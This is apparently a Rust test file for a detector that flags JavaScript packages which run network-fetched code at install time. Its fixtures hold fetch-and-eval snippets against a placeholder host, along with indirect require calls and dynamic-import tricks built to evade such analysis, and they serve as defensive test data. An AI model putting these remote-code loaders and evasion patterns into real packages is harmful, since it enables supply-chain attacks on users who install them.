use crate::flow::testing::{remote_code, script};
use crate::unpack::text_file as file;
use customs_model::Zone;

const GO: &str = "() => fetch('https://a.invalid/b').then(r => r.text()).then(eval)";

/// When what comes over the network is run, at the earliest.
fn runs(code: &str) -> Option<Zone> {
    let mut entries = script(code);
    let module = format!("export const go = {GO};\nexport default go;\n");
    entries.push(file("x.mjs", &module));
    for path in ["lib/y.js", "lib/linux.js", "linux.js", "d.dat"] {
        let path = format!("package/{path}");
        entries.push(file(&path, &format!("({GO})();\n")));
    }
    remote_code(entries)
}

#[test]
fn callbacks_get_what_is_known_before_they_run() {
    for code in [
        "import('./x.mjs').then(m => m.go())",
        "import('./x.mjs').then(({ go }) => go())",
        "import('./x.mjs').then(({ default: g }) => g())",
        "const l = { a: () => import('./x.mjs') }; l.a().then(m => m.go())",
        "Promise.all([import('./x.mjs')]).then(() => {}); (async () => { const [m] = await Promise.all([import('./x.mjs')]); m.go() })()",
        "import('https').then(h => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
        "import('https').then(({ default: h }) => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
        "require('fs').readFile(__dirname + '/d.dat', 'utf8', (e, t) => eval(t))",
        "(async () => { await { then() { import('./x.mjs').then(m => m.go()) } } })()",
        "class C { then(r) { import('./x.mjs').then(m => m.go()); r() } } (async () => { await new C })()",
        "const o = { then(r) { r(import('./x.mjs').then(m => m.go())) } }; (async () => await o)()",
        "require('fs').promises.readFile(__dirname + '/d.dat', 'utf8').then(t => eval(t))",
    ] {
        assert_eq!(runs(code), Some(Zone::Install), "{code}");
    }
}

#[test]
fn a_module_whose_name_is_known_in_part_may_be_each_of_its_folder() {
    for code in [
        "require('./lib/' + (process.argv[2] || 'y'))",
        "require(`./lib/${process.platform}.js`)",
        "require(`./${process.platform}`)",
        "require('fs').readdirSync(__dirname + '/lib').forEach(f => require('./lib/' + f))",
        "const path = require('path'); require('fs').readdirSync(path.join(__dirname, 'lib')).map(f => require(path.join(__dirname, 'lib', f)))",
        "for (const n of ['a', 'y']) require('./lib/' + n)",
    ] {
        assert_eq!(runs(code), Some(Zone::Install), "{code}");
    }
}

#[test]
fn a_module_whose_name_is_not_known_is_none() {
    for code in [
        "require('./' + process.argv[2])",
        "require(process.argv[2])",
        "module.exports = n => require('./lib/' + n)",
        "require('./lib/' + process.argv[2] + '.json')",
        "import('./x.mjs').then(m => m.other())",
        "const o = { then(r) { import('./x.mjs').then(m => m.go()) } }; (async () => await 1)()",
        "import('./x.mjs').then(m => m)",
        "const o = { then(f) {} }; o.then(m => m.go())",
    ] {
        assert!(runs(code) < Some(Zone::Install), "{code}");
    }
}

#[test]
fn what_calls_require_in_a_roundabout_way_loads() {
    for call in [
        "require.call(null, 'https')",
        "require.apply(module, ['https'])",
        "Reflect.apply(require, null, ['https'])",
        "module.parent.require('https')",
        "require('module')._load('https')",
        "module.constructor._load('https')",
        "['https'].map(require)[0]",
    ] {
        let code =
            format!("{call}.get('https://a.invalid/b', r => r.on('data', d => eval('' + d)))");
        assert_eq!(runs(&code), Some(Zone::Install), "{call}");
    }
}
